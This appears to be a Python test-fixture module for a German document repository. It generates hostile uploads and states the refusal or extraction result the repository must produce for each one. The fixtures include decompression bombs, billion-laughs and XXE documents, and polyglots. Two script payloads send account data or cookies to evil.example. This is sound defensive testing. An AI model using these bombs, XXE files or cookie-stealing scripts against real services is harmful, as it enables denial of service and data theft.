"""Hostile files for the hostile-file suite, generated on demand (nothing is checked in).

Each `HostileFile` says how to build the bytes, the name the attacker gives the file and
what the repository must make of it: either a refusal before anything is stored (with the
German message and the HTTP status the API answers with), or a stored document with a
precise extraction status and message.

The decompression bombs are built without ever holding their inflated size in memory: a
deflate stream of zeros is the same compressed block repeated after each full flush, and
the Adler-32 of n zero bytes is known in closed form.
"""

from __future__ import annotations

import hashlib
import io
import shutil
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

#: A line of a local file that an external XML entity points at; it must never show up in
#: extracted text, properties or messages.
SECRET_MARKER = "GEHEIM-MARKER-7f3a9c"

#: What the Flate bomb inflates to, and how large it is on disk (asserted by the tests).
FLATE_BOMB_INFLATED = 2 * 1024**3
FLATE_BOMB_MAX_ON_DISK = 4 * 1024**2

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/docProps/core.xml" '
    'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
    "</Types>"
)
DOCX_ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="word/document.xml"/>'
    '<Relationship Id="rId2" '
    'Type="http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties" '
    'Target="docProps/core.xml"/>'
    "</Relationships>"
)


@dataclass(frozen=True)
class HostileFile:
    """One hostile input and what must become of it.

    refused: the entry points refuse it before storing; `message` is part of the German
    reason and `http_status` what the API answers. Otherwise it is stored with
    `extraction_status`, and `message` is part of the stored extraction message.
    """

    kind: str
    filename: str
    build: Callable[[Path, Path], None]  # (target, scratch folder)
    refused: bool
    message: str
    http_status: int = 201
    extraction_status: str | None = None
    #: Substrings the extracted text must contain (proof the parser really read the file).
    text_contains: tuple[str, ...] = ()
    #: The stored name, where the hostile part is the name itself (as `clean_filename` makes
    #: it of `filename`).
    stored_filename: str | None = None
    #: Where multipart transport already changes the name before the application sees it
    #: (backslash escapes, header folding of CR LF TAB), the name the form and API store.
    stored_over_http: str | None = None
    #: Whether the name can exist on a POSIX file system (for `toolbox ingest`).
    on_disk: bool = True
    #: Seconds of parsing and indexing (and Whoosh merges after them) even when all goes well:
    #: run by `make test-slow`, not by the quick suite.
    slow: bool = False


# --- PDF -----------------------------------------------------------------------------------


def pdf_bytes(objects: list[bytes], *, root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF with the given objects (numbered from 1) and a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n"
              % (len(objects) + 1, root, trailer_extra, xref))
    return out.getvalue()


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def _page_objects(contents: bytes) -> list[bytes]:
    """Catalog, page tree and one page with Helvetica; `contents` is the /Contents value."""
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents " + contents
        + b" /Resources << /Font << /F1 4 0 R >> >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]


def text_pdf(text: str) -> bytes:
    content = b"BT /F1 12 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET"
    return pdf_bytes(_page_objects(b"5 0 R") + [_stream(content)])


def zero_deflate(size: int) -> bytes:
    """A zlib stream that inflates to `size` zero bytes (a multiple of 16 MiB, or less), built
    in a fraction of a second: after a full flush the compressor emits the same block again."""
    chunk_size = min(size, 16 * 1024**2)
    assert size % chunk_size == 0
    chunk = bytes(chunk_size)
    compressor = zlib.compressobj(9)
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    repeated = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    # The Adler-32 of n zero bytes: a stays 1, b grows by 1 per byte.
    adler = ((size % 65521) << 16) | 1
    # An empty final stored block ends the deflate stream.
    return first + repeated * (size // chunk_size - 1) + b"\x03\x00" + struct.pack(">L", adler)


def build_flate_bomb(target: Path, scratch: Path) -> None:
    """One page whose content stream is a single Flate stream inflating to 2 GiB."""
    bomb = zero_deflate(FLATE_BOMB_INFLATED)
    target.write_bytes(pdf_bytes(_page_objects(b"5 0 R") + [_stream(bomb, b"/Filter /FlateDecode ")]))


def build_split_flate_bomb(target: Path, scratch: Path) -> None:
    """One page whose contents are 256 Flate streams of 8 MiB each (2 GiB together): no
    single stream is large, only what the page adds up to."""
    part = zero_deflate(8 * 1024**2)
    count = 256
    references = b"[" + b" ".join(b"%d 0 R" % (5 + n) for n in range(count)) + b"]"
    streams = [_stream(part, b"/Filter /FlateDecode ") for _ in range(count)]
    target.write_bytes(pdf_bytes(_page_objects(references) + streams))


def build_truncated_pdf(target: Path, scratch: Path) -> None:
    """A text PDF cut off in the middle of its content stream: no xref, no trailer."""
    data = text_pdf("Haushaltsplan der Gemeinde Musterhausen")
    target.write_bytes(data[: data.index(b"stream") + 20])


def build_reference_loop_pdf(target: Path, scratch: Path) -> None:
    """A page tree that contains itself."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        _stream(b"BT ET"),
    ]
    target.write_bytes(pdf_bytes(objects))


def build_length_loop_pdf(target: Path, scratch: Path) -> None:
    """A page whose content stream's /Length refers to an object that refers back to it."""
    content = b"BT /F1 12 Tf 72 720 Td (Ringverweis) Tj ET"
    objects = _page_objects(b"5 0 R") + [
        b"<< /Length 6 0 R >>\nstream\n" + content + b"\nendstream",
        b"7 0 R",
        b"6 0 R",
    ]
    target.write_bytes(pdf_bytes(objects))


def build_xobject_loop_pdf(target: Path, scratch: Path) -> None:
    """A page that draws a form XObject that draws itself: endless recursion for a renderer
    or a text extractor that follows it."""
    content = b"BT /F1 12 Tf 72 720 Td (Bauhofordnung der Gemeinde) Tj ET /X1 Do"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R "
        b"/Resources << /Font << /F1 4 0 R >> /XObject << /X1 6 0 R >> >> >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        _stream(content),
        _stream(b"/X1 Do", b"/Type /XObject /Subtype /Form /BBox [0 0 10 10] "
                           b"/Resources << /XObject << /X1 6 0 R >> >> "),
    ]
    target.write_bytes(pdf_bytes(objects))


def build_encrypted_pdf(target: Path, scratch: Path) -> None:
    """A text PDF encrypted with AES-256 and a user password nobody gave us."""
    from pypdf import PdfReader
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(text_pdf("Vertrauliche Vergabeunterlagen"))))
    writer.encrypt(user_password="geheim", owner_password="noch-geheimer", algorithm="AES-256")
    with target.open("wb") as out:
        writer.write(out)


def build_random_bytes(target: Path, scratch: Path) -> None:
    import random

    data = bytearray(random.Random(5).randbytes(64 * 1024))
    data[:2] = b"\x00\x01"  # never a PDF, ZIP or image magic by chance
    target.write_bytes(bytes(data))


def build_html(target: Path, scratch: Path) -> None:
    target.write_text(
        "<!DOCTYPE html>\n<html lang=\"de\"><head><title>Bürgerportal</title></head>"
        "<body><script>alert('x')</script><p>Keine PDF-Datei.</p></body></html>\n",
        encoding="utf-8",
    )


def build_html_pdf_polyglot(target: Path, scratch: Path) -> None:
    """An HTML page with a script that also carries a whole PDF within its first kilobyte, as
    lenient PDF readers accept it: once taken for a PDF, it would be served back as itself."""
    target.write_bytes(
        b"<html><head><title>Jahresbericht</title></head><body>\n"
        b"<script>fetch('/account').then(r => r.text()).then(t => new Image().src = '//evil.example/?' + t)</script>\n"
        + text_pdf("Jahresbericht der Gemeinde") + b"</body></html>\n"
    )


def build_page_with_pdf_inside(target: Path, scratch: Path) -> None:
    """The polyglot under an honest .html name (other bytes, so the two never count as duplicates)."""
    build_html_pdf_polyglot(target, scratch)
    target.write_bytes(target.read_bytes() + b"<!-- als Seite gespeichert -->\n")


def build_html_fragment(target: Path, scratch: Path) -> None:
    """A bare script, as a browser would still render it as HTML."""
    target.write_text("<script>document.location='https://evil.example/?'+document.cookie</script>\n",
                      encoding="utf-8")


def build_svg_with_script(target: Path, scratch: Path) -> None:
    """An SVG image whose script runs when a browser opens it from our origin."""
    target.write_text(SVG_WITH_DOCTYPE.replace("<rect", "<script>alert(document.domain)</script><rect"),
                      encoding="utf-8")


def build_pdf_after_junk(target: Path, scratch: Path) -> None:
    """A real PDF behind 512 bytes of binary junk: readers would find its signature, we do not."""
    target.write_bytes(bytes(range(256)) * 2 + text_pdf("Haushaltsplan der Gemeinde"))


def build_elf_executable(target: Path, scratch: Path) -> None:
    """A real program of this machine (an ELF binary)."""
    program = shutil.which("true") or sys.executable
    target.write_bytes(Path(program).read_bytes())


def build_pe_executable(target: Path, scratch: Path) -> None:
    """The start of a Windows program: MZ header, DOS stub, PE signature."""
    header = bytearray(512)
    header[:2] = b"MZ"
    struct.pack_into("<L", header, 0x3C, 0x80)
    header[0x40:0x40 + 39] = b"This program cannot be run in DOS mode."
    header[0x80:0x84] = b"PE\x00\x00"
    target.write_bytes(bytes(header) + bytes(4096))


def build_empty(target: Path, scratch: Path) -> None:
    target.write_bytes(b"")


# --- Word ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class ZipMember:
    """A member as it goes into the archive: raw deflate data, its CRC and inflated size."""

    name: str
    deflated: bytes
    crc: int
    size: int

    @classmethod
    def of(cls, name: str, data: str | bytes) -> "ZipMember":
        data = data.encode("utf-8") if isinstance(data, str) else data
        compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
        return cls(name, compressor.compress(data) + compressor.flush(), zlib.crc32(data), len(data))

    @classmethod
    def zeros(cls, name: str, size: int) -> "ZipMember":
        crc = 0
        chunk = bytes(16 * 1024**2)
        for _ in range(size // len(chunk)):
            crc = zlib.crc32(chunk, crc)
        return cls(name, zero_deflate(size)[2:-4], crc, size)  # raw deflate: no zlib wrapper


def write_zip(target: Path, members: list[ZipMember]) -> None:
    """A plain ZIP archive of already deflated members (zipfile would inflate a bomb's
    worth of zeros just to write it)."""
    central = io.BytesIO()
    with target.open("wb") as out:
        for member in members:
            name = member.name.encode("utf-8")
            offset = out.tell()
            fields = (20, 0x800, 8, 0, 0x21, member.crc, len(member.deflated), member.size, len(name))
            out.write(b"PK\x03\x04" + struct.pack("<5H3L2H", *fields, 0) + name + member.deflated)
            central.write(b"PK\x01\x02" + struct.pack("<6H3L5H2L", 20, *fields, 0, 0, 0, 0, 0, offset)
                          + name)
        start = out.tell()
        out.write(central.getvalue())
        out.write(b"PK\x05\x06" + struct.pack("<4H2LH", 0, 0, len(members), len(members),
                                                len(central.getvalue()), start, 0))


def _docx(target: Path, document_xml: str, *, core_xml: str | None = None,
          extra: list[ZipMember] | None = None) -> None:
    core_xml = core_xml or (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Muster</dc:title></cp:coreProperties>'
    )
    write_zip(target, [
        ZipMember.of("[Content_Types].xml", DOCX_CONTENT_TYPES),
        ZipMember.of("_rels/.rels", DOCX_ROOT_RELS),
        ZipMember.of("word/document.xml", document_xml),
        ZipMember.of("docProps/core.xml", core_xml),
        *(extra or []),
    ])


def _document_xml(body: str, doctype: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + doctype
        + f'<w:document xmlns:w="{W_NS}"><w:body>{body}</w:body></w:document>'
    )


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


ZIP_BOMB_MEMBER = 192 * 1024**2


def build_zip_bomb_ratio(target: Path, scratch: Path) -> None:
    """A DOCX with one member of 192 MiB zeros (about 190 KB compressed, ratio 1000:1)."""
    _docx(target, _document_xml(_paragraph("Deckblatt")),
          extra=[ZipMember.zeros("word/media/image1.bin", ZIP_BOMB_MEMBER)])


def build_zip_bomb_total(target: Path, scratch: Path) -> None:
    """A DOCX with 400 members of 1 MiB zeros: each too small for the ratio check, 400 MiB
    together."""
    one = ZipMember.of("x", bytes(1024**2))
    _docx(target, _document_xml(_paragraph("Anlage")),
          extra=[ZipMember(f"word/media/image{n}.bin", one.deflated, one.crc, one.size) for n in range(400)])


def build_billion_laughs(target: Path, scratch: Path) -> None:
    """Nested entities that would expand to 10^9 "lol"s, in the body and the core properties."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)
    ]
    doctype = f"<!DOCTYPE w:document [{''.join(entities)}]>"
    core_doctype = doctype.replace("w:document", "cp:coreProperties")
    core = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>' + core_doctype
        + '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&lol9;</dc:title>'
        "<dc:creator>&lol9;</dc:creator></cp:coreProperties>"
    )
    _docx(target, _document_xml(_paragraph("Lachen: &lol9;") + _paragraph("Schluss der Einladung"),
                                doctype), core_xml=core)


def build_external_entity(target: Path, scratch: Path) -> None:
    """Entities that point at a local file with a marker, in the body and the properties."""
    secret = scratch / "geheim.txt"
    secret.write_text(f"{SECRET_MARKER}\n", encoding="utf-8")
    uri = secret.resolve().as_uri()
    doctype = (f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{uri}">'
               f'<!ENTITY % remote SYSTEM "{uri}"> %remote;]>')
    core = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<!DOCTYPE cp:coreProperties [<!ENTITY xxe SYSTEM "{uri}">]>'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
        'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Titel &xxe;</dc:title>'
        "<dc:creator>&xxe;</dc:creator></cp:coreProperties>"
    )
    _docx(target, _document_xml(_paragraph("Vorher &xxe; nachher") + _paragraph("Dienstanweisung Datenschutz"),
                                doctype), core_xml=core)


def build_external_entity_in_renamed_part(target: Path, scratch: Path) -> None:
    """The XXE document part under a name that does not end in .xml: its content type,
    declared in [Content_Types].xml, is what makes python-docx parse it."""
    secret = scratch / "geheim.txt"
    secret.write_text(f"{SECRET_MARKER}\n", encoding="utf-8")
    doctype = f'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "{secret.resolve().as_uri()}">]>'
    write_zip(target, [
        ZipMember.of("[Content_Types].xml", DOCX_CONTENT_TYPES.replace("/word/document.xml", "/word/inhalt.bin")),
        ZipMember.of("_rels/.rels", DOCX_ROOT_RELS.replace("word/document.xml", "word/inhalt.bin")),
        ZipMember.of("word/inhalt.bin", _document_xml(_paragraph("Vorher &xxe; nachher"), doctype)),
        ZipMember.of("docProps/core.xml", '<?xml version="1.0"?><cp:coreProperties xmlns:cp='
                     '"http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>'),
    ])


SVG_WITH_DOCTYPE = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10"/></svg>'
)


def build_docx_with_svg_logo(target: Path, scratch: Path) -> None:
    """A harmless DOCX with an SVG logo as Inkscape or Illustrator writes it, DOCTYPE included."""
    content_types = DOCX_CONTENT_TYPES.replace(
        '<Default Extension="xml"',
        '<Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="xml"')
    write_zip(target, [
        ZipMember.of("[Content_Types].xml", content_types),
        ZipMember.of("_rels/.rels", DOCX_ROOT_RELS),
        ZipMember.of("word/document.xml", _document_xml(_paragraph("Briefkopf mit Stadtwappen"))),
        ZipMember.of("word/media/image1.svg", SVG_WITH_DOCTYPE),
        ZipMember.of("docProps/core.xml", '<?xml version="1.0"?><cp:coreProperties xmlns:cp='
                     '"http://schemas.openxmlformats.org/package/2006/metadata/core-properties"/>'),
    ])


HUGE_DOCX_PARAGRAPHS = 100_000


_WORDS = (
    "Gemeinde Satzung Bürger Verwaltung Antrag Förderung Straße Wasser Energie Daten Netz Sensor "
    "Haushalt Beschluss Ausschreibung Vertrag Leistung Angebot Frist Prüfung Bericht Konzept Rat "
    "Kreis Region Schule Pflege Mobilität Klima Umwelt Wärme Strom Licht Park Platz Brücke Rathaus "
    "Amt Stelle Leitung Team Projekt Ziel Maßnahme Kosten Zuschuss Vorlage Muster Anlage Kapitel"
).split()


def build_many_paragraphs(target: Path, scratch: Path) -> None:
    """100 000 paragraphs of one or two words from a small vocabulary: as varied as a long
    real text, so neither the ZIP guard's ratio check nor a flood of distinct terms in the
    search index is what the test measures, only the parser's walk."""
    import random

    rng = random.Random(100_000)
    paragraphs = (" ".join(rng.choices(_WORDS, k=rng.randint(1, 2))) for _ in range(HUGE_DOCX_PARAGRAPHS))
    _docx(target, _document_xml("".join(map(_paragraph, paragraphs)) + _paragraph("Schlussbestimmung")))


def build_legacy_doc(target: Path, scratch: Path) -> None:
    """A minimal OLE2 compound file with a WordDocument stream, as Word 97–2003 writes."""
    sector = 512
    header = bytearray(sector)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHH", header, 24, 0x3E, 3, 0xFFFE, 9)  # minor, major, byte order, shift
    struct.pack_into("<H", header, 32, 6)  # mini sector shift
    struct.pack_into("<L", header, 44, 1)  # FAT sectors
    struct.pack_into("<L", header, 48, 1)  # first directory sector
    struct.pack_into("<L", header, 56, 4096)  # mini stream cutoff
    struct.pack_into("<L", header, 60, 0xFFFFFFFE)  # no mini FAT
    struct.pack_into("<L", header, 68, 0xFFFFFFFE)  # no DIFAT sectors
    header[76:sector] = b"\xff" * (sector - 76)
    struct.pack_into("<L", header, 76, 0)  # the FAT is sector 0
    fat = bytearray(b"\xff" * sector)
    struct.pack_into("<4L", fat, 0, 0xFFFFFFFD, 0xFFFFFFFE, 3, 0xFFFFFFFE)  # FAT, dir, stream

    def entry(name: str, kind: int, start: int, size: int, child: int = 0xFFFFFFFF) -> bytes:
        raw = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        raw[: len(encoded)] = encoded
        struct.pack_into("<HBB", raw, 64, len(encoded), kind, 1)
        struct.pack_into("<3L", raw, 68, 0xFFFFFFFF, 0xFFFFFFFF, child)
        struct.pack_into("<LL", raw, 116, start, size)
        return bytes(raw)

    directory = (entry("Root Entry", 5, 0xFFFFFFFE, 0, child=1) + entry("WordDocument", 2, 2, 1024)
                 + bytes(256))
    stream = (b"\xec\xa5\xc1\x00" + "Protokoll der Sitzung".encode("utf-16-le")).ljust(1024, b"\x00")
    target.write_bytes(bytes(header) + bytes(fat) + directory + stream)


# --- office formats (issue 13.3) -------------------------------------------------------------
#: Built with the factories of tests/office_factories.py (imported on use: that module's folder
#: is on the path when pytest runs, not when this module is imported elsewhere).
OFFICE_CELLS_ROWS, OFFICE_CELLS_COLUMNS = 100_000, 10  # 10^6 cells
ODF_MIMETYPE = "application/vnd.oasis.opendocument.text"


def _factories():
    import office_factories

    return office_factories


def build_odt_zip_bomb(target: Path, scratch: Path) -> None:
    """An ODT whose content.xml inflates 1000:1 to 192 MiB."""
    write_zip(target, [ZipMember.of("mimetype", ODF_MIMETYPE), ZipMember.zeros("content.xml", ZIP_BOMB_MEMBER)])


def build_ods_billion_laughs(target: Path, scratch: Path) -> None:
    of = _factories()
    entities = "".join(['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)])
    content = of.odf_body("ods", '<table:table table:name="Lachen"><table:table-row><table:table-cell>'
                                 "<text:p>&lol9;</text:p></table:table-cell></table:table-row></table:table>")
    content = content.replace("?>", f"?><!DOCTYPE office:document-content [{entities}]>", 1)
    of.write_odf(target, "ods", content)


def build_xlsx_external_entity(target: Path, scratch: Path) -> None:
    of = _factories()
    secret = scratch / "geheim.txt"
    secret.write_text(f"{SECRET_MARKER}\n", encoding="utf-8")
    workbook = of.write_feature_xlsx(scratch / "xxe-vorlage.xlsx")
    with zipfile.ZipFile(workbook) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    sheet = members["xl/worksheets/sheet1.xml"].decode()
    members["xl/worksheets/sheet1.xml"] = (
        f'<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "{secret.resolve().as_uri()}">]>'
        + sheet).encode()
    of.rewrite_zip(target, members)


def build_xlsx_million_cells(target: Path, scratch: Path) -> None:
    _factories().write_xlsx_cells(target, OFFICE_CELLS_ROWS, OFFICE_CELLS_COLUMNS, last_row="Ende der Messreihe")


def build_ods_million_cells(target: Path, scratch: Path) -> None:
    _factories().write_ods_cells(target, OFFICE_CELLS_ROWS, OFFICE_CELLS_COLUMNS, last_row="Ende der Messreihe")


def build_pptx_5000_slides(target: Path, scratch: Path) -> None:
    _factories().write_many_slides(target, 5000, last_slide="Vielen Dank")


def build_pptx_800_slides(target: Path, scratch: Path) -> None:
    _factories().write_many_slides(target, 800, last_slide="Vielen Dank für die Aufmerksamkeit")


def _truncated(build: Callable[[Path, Path], None]) -> Callable[[Path, Path], None]:
    def truncated(target: Path, scratch: Path) -> None:
        whole = scratch / f"ganz-{target.name}"
        build(whole, scratch)
        data = whole.read_bytes()
        target.write_bytes(data[: len(data) * 2 // 3])
    return truncated


def build_rtf_deep_nesting(target: Path, scratch: Path) -> None:
    """Groups nested 100 000 deep around a word (a recursive reader would overflow its stack)."""
    depth = 100_000
    target.write_bytes(b"{\\rtf1\\ansi " + b"{" * depth + b"Tiefe" + b"}" * depth + b" Schlusswort Aushang}")


def build_xlsm(target: Path, scratch: Path) -> None:
    of = _factories()
    of.write_with_vba(of.write_feature_xlsx(scratch / "makro-vorlage.xlsx"), target,
                      main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml")


def build_odt_with_basic(target: Path, scratch: Path) -> None:
    _factories().write_odt_with_macros(target)


def build_encrypted_odt(target: Path, scratch: Path) -> None:
    _factories().write_encrypted_odf(target, "odt")


def build_encrypted_xlsx(target: Path, scratch: Path) -> None:
    target.write_bytes(_factories().encrypted_ooxml())


def _feature(name: str) -> Callable[[Path, Path], None]:
    def build(target: Path, scratch: Path) -> None:
        getattr(_factories(), name)(target)
    return build


# --- benign content behind hostile names ---------------------------------------------------


def build_plain_text(target: Path, scratch: Path) -> None:
    """A harmless text; a digest of the target's name makes it unique, so no two are
    duplicates of each other (the name itself may hold control characters)."""
    digest = hashlib.sha256(target.name.encode("utf-8", "surrogateescape")).hexdigest()[:12]
    target.write_text(f"Geschäftsordnung des Digitalbeirats ({digest})\n", encoding="utf-8")


# --- the catalogue -------------------------------------------------------------------------

DOCX_NAME = "vorlage.docx"

FILES: tuple[HostileFile, ...] = (
    HostileFile("empty", "leer.pdf", build_empty, refused=True, message="leer (0 Byte)", http_status=400),
    HostileFile("random-bytes", "bericht.pdf", build_random_bytes, refused=True,
                message="nicht erkannt", http_status=415),
    HostileFile("truncated-pdf", "abgeschnitten.pdf", build_truncated_pdf, refused=False,
                message="Datei beschädigt", extraction_status="failed"),
    HostileFile("flate-bomb", "bombe.pdf", build_flate_bomb, refused=False,
                message="Dekomprimierungsbombe", extraction_status="failed"),
    HostileFile("split-flate-bomb", "bombe-geteilt.pdf", build_split_flate_bomb, refused=False,
                message="Dekomprimierungsbombe", extraction_status="failed"),
    HostileFile("reference-loop-pdf", "schleife.pdf", build_reference_loop_pdf, refused=False,
                message="Datei beschädigt", extraction_status="failed"),
    HostileFile("length-loop-pdf", "ringverweis.pdf", build_length_loop_pdf, refused=False,
                message="Keine Seite der PDF-Datei konnte gelesen werden", extraction_status="failed"),
    HostileFile("xobject-loop-pdf", "bauhof.pdf", build_xobject_loop_pdf, refused=False,
                message="Text erfolgreich extrahiert (1 Seite).", extraction_status="ok",
                text_contains=("Bauhofordnung der Gemeinde",)),
    HostileFile("encrypted-pdf", "vertraulich.pdf", build_encrypted_pdf, refused=False,
                message="passwortgeschützt", extraction_status="encrypted"),
    HostileFile("zip-bomb-ratio", DOCX_NAME, build_zip_bomb_ratio, refused=False,
                message="ungewöhnlich stark komprimiert", extraction_status="failed"),
    HostileFile("zip-bomb-total", DOCX_NAME, build_zip_bomb_total, refused=False,
                message="mehr als 250 MB", extraction_status="failed"),
    HostileFile("billion-laughs", "einladung.docx", build_billion_laughs, refused=False,
                message="enthält eine DTD", extraction_status="failed"),
    HostileFile("external-entity", "dienstanweisung.docx", build_external_entity, refused=False,
                message="enthält eine DTD", extraction_status="failed"),
    HostileFile("many-paragraphs", "satzung.docx", build_many_paragraphs, refused=False,
                message="Text erfolgreich extrahiert (149.901 Wörter).", extraction_status="ok",
                text_contains=("\nSchlussbestimmung",), slow=True),
    # Accepted since LibreOffice reads Word 97–2003 (issue 13.3), in a background job.
    HostileFile("legacy-doc", "protokoll.docx", build_legacy_doc, refused=False,
                message="LibreOffice", extraction_status="empty"),
    HostileFile("odt-zip-bomb", "satzung.odt", build_odt_zip_bomb, refused=False,
                message="ungewöhnlich stark komprimiert", extraction_status="failed"),
    HostileFile("ods-billion-laughs", "lachen.ods", build_ods_billion_laughs, refused=False,
                message="enthält eine DTD", extraction_status="failed"),
    HostileFile("xlsx-external-entity", "haushalt.xlsx", build_xlsx_external_entity, refused=False,
                message="enthält eine DTD", extraction_status="failed"),
    # A million cells: read up to the sheet text cap (the start of the sheet), never whole.
    HostileFile("xlsx-million-cells", "messwerte.xlsx", build_xlsx_million_cells, refused=False,
                message="Text erfolgreich extrahiert", extraction_status="ok", text_contains=("Tabelle: Messwerte\n",),
                slow=True),
    HostileFile("ods-million-cells", "messwerte.ods", build_ods_million_cells, refused=False,
                message="Text erfolgreich extrahiert", extraction_status="ok", text_contains=("Tabelle: Messwerte\n",),
                slow=True),
    # 5 000 slides are 10 000 parts and more: the ZIP guard's member limit refuses them unread.
    HostileFile("pptx-5000-slides", "vortrag.pptx", build_pptx_5000_slides, refused=False,
                message="mehr als 10.000 gepackte Bestandteile", extraction_status="failed"),
    HostileFile("pptx-800-slides", "klausur.pptx", build_pptx_800_slides, refused=False,
                message="Text erfolgreich extrahiert", extraction_status="ok",
                text_contains=("\nVielen Dank für die Aufmerksamkeit\n",), slow=True),
    HostileFile("truncated-xlsx", "abgeschnitten.xlsx", _truncated(_feature("write_feature_xlsx")), refused=True,
                message="ZIP", http_status=415),
    HostileFile("truncated-odt", "abgeschnitten.odt", _truncated(_feature("write_feature_odt")), refused=True,
                message="ZIP", http_status=415),
    HostileFile("rtf-deep-nesting", "aushang.rtf", build_rtf_deep_nesting, refused=False,
                message="Text erfolgreich extrahiert", extraction_status="ok",
                text_contains=("Tiefe", "Schlusswort Aushang")),
    HostileFile("xlsm-macros", "haushalt.xlsm", build_xlsm, refused=True,
                message="Die IT-Sicherheitsvorgaben der Kommunen verbieten, Makros weiterzugeben", http_status=415),
    HostileFile("odt-basic-macros", "einladung.odt", build_odt_with_basic, refused=True,
                message="Dateien mit Makros (ODT)", http_status=415),
    HostileFile("encrypted-odt", "personalakte.odt", build_encrypted_odt, refused=False,
                message="passwortgeschützt", extraction_status="encrypted"),
    HostileFile("encrypted-xlsx", "gehaelter.xlsx", build_encrypted_xlsx, refused=False,
                message="passwortgeschützt", extraction_status="encrypted"),
    # Web pages are read for their text under their own name only; under another one they are
    # what a polyglot looks like.
    HostileFile("html-as-pdf", "portal.pdf", build_html, refused=True, message="HTML-Seite, heißt aber „.pdf“",
                http_status=415),
    HostileFile("html-pdf-polyglot", "jahresbericht.pdf", build_html_pdf_polyglot, refused=True,
                message="Die Datei ist eine HTML-Seite, heißt aber „.pdf“", http_status=415),
    HostileFile("html-fragment-as-txt", "notiz.txt", build_html_fragment, refused=True,
                message="Die Datei ist eine HTML-Seite, heißt aber „.txt“", http_status=415),
    # As a page, the polyglot is stored as what it is (and downloaded as an attachment): its
    # visible text only, never the script, never the PDF inside.
    HostileFile("page-with-pdf-inside", "jahresbericht.html", build_page_with_pdf_inside, refused=False,
